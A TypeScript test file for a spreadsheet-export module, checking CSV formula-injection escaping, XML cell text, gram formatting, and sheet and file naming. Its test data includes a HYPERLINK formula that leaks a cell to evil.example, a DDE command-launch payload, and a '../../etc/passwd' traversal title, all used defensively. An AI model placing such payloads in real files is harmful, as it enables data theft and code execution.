import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cellXml, fitsNumberCell, gramsText, looksLikeFormula, safeInCsv } from '#main/features/exports/cell-text.ts';
import { columnLetters } from '#main/features/exports/sheet.ts';
import { slugOf } from '#main/features/exports/table-file.ts';
import { sheetName } from '#main/features/exports/workbook.ts';
import { mg, parseGrams } from '#shared/model/mass.ts';

describe('a text that a spreadsheet could run', () => {
  const RISKY = [
    '=1+1',
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '+1+cmd|calc!A0',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n@x',
    '  =1+1',
    '\u00A0=1',
    '\uFEFF=1',
    '＝1+1',
    '－',
    '-',
    '+',
  ];
  it.each(RISKY)('is known: %j', (text) => expect(looksLikeFormula(text)).toBe(true));
  it.each(RISKY)('gets an apostrophe in CSV: %j', (text) => expect(safeInCsv(text)).toBe(`'${text}`));

  it.each(['', 'Wedding Cake', '1A4060300000123456', 'a=b', '100', '0.5', '(−5)', '#1', "'=1"])('is not %j', (text) => {
    expect(looksLikeFormula(text)).toBe(false);
    expect(safeInCsv(text)).toBe(text);
  });

  it.each(['-5', '+12', '-0.125'])('is a plain number in CSV, which stays one: %s', (text) => {
    expect(safeInCsv(text)).toBe(text);
  });
});

describe('grams', () => {
  it.each([
    [500_000, '500.00'],
    [125, '0.125'],
    [1, '0.001'],
    [100, '0.10'],
    [10, '0.01'],
    [0, '0.00'],
    [-3125, '-3.125'],
    [100_000_000_000, '100000000.00'],
  ])('of %i mg are %s', (value, text) => expect(gramsText(value)).toBe(text));

  it('are exact for every mass, with at least two decimals', () => {
    fc.assert(
      fc.property(fc.integer({ min: -100_000_000_000, max: 100_000_000_000 }), (value) => {
        expect(gramsText(value)).toMatch(/^-?\d+\.\d{2,3}$/);
        expect(parseGrams(gramsText(value))).toBe(mg(value));
      }),
    );
  });
});

describe('a text in an Excel cell', () => {
  it('keeps its signs of markup', () => {
    expect(cellXml(`<b>"A" & 'B'</b>`)).toBe(`&lt;b&gt;"A" &amp; 'B'&lt;/b&gt;`);
  });

  it('loses only what XML cannot write', () => {
    expect(cellXml('a\u0000b\u0008c\u000Bd\u001Fe\uFFFEf\uFFFFg\tu\nv')).toBe('abcdefg\tu\nv');
    expect(cellXml('lone \uD800 half')).toBe('lone \uFFFD half');
    expect(cellXml('one\r\ntwo\rthree')).toBe('one\ntwo\nthree');
    expect(cellXml('😀 naïve ключ')).toBe('😀 naïve ключ');
  });

  it('is not read as one of Excel’s own escapes', () => {
    expect(cellXml('_x0041_')).toBe('_x005F_x0041_');
    expect(cellXml('lot_x12')).toBe('lot_x12');
  });

  it('that is too long is cut where Excel ends, and says so', () => {
    expect(cellXml('x'.repeat(32_767))).toHaveLength(32_767);
    const cut = cellXml('x'.repeat(40_000));
    expect(cut).toHaveLength(32_767);
    expect(cut.endsWith(' … [cut here: 40000 characters in all]')).toBe(true);
    expect(cellXml('😀'.repeat(20_000)).isWellFormed()).toBe(true);
  });
});

describe('a number', () => {
  it.each([0, -1.5, 999_999_999_999_999])('%d is one in Excel', (n) => expect(fitsNumberCell(n)).toBe(true));
  it.each([1e15, -1e300, Number.NaN, Number.POSITIVE_INFINITY])('%d would be another one there', (n) =>
    expect(fitsNumberCell(n)).toBe(false),
  );
});

describe('names', () => {
  it('of columns', () => {
    expect([0, 25, 26, 51, 52, 701, 702, 16_383].map(columnLetters)).toEqual([
      'A',
      'Z',
      'AA',
      'AZ',
      'BA',
      'ZZ',
      'AAA',
      'XFD',
    ]);
  });

  it.each<[string, string[], string]>([
    ['Packages', [], 'Packages'],
    ['Packages', ['packages'], 'Packages (2)'],
    ['Packages (2)', [], 'Packages (2)'],
    ['a/b\\c:d*e?f[g]h', [], 'a b c d e f g h'],
    ["'quoted'", [], 'quoted'],
    ['History', [], 'Sheet'],
    ['   ', [], 'Sheet'],
    ['x'.repeat(40), [], 'x'.repeat(31)],
    [`${'x'.repeat(40)} (2)`, [], `${'x'.repeat(27)} (2)`],
    ['x'.repeat(40), ['x'.repeat(31)], `${'x'.repeat(27)} (2)`],
  ])('of the sheet for %j beside %j', (title, taken, name) => expect(sheetName(title, taken)).toBe(name));

  it.each([
    ['Finished goods', 'finished-goods'],
    ['../../etc/passwd', 'etc-passwd'],
    ['Crème brûlée', 'creme-brulee'],
    ['日本', 'list'],
    ['', 'list'],
  ])('of the file for %j', (title, slug) => expect(slugOf(title)).toBe(slug));
});
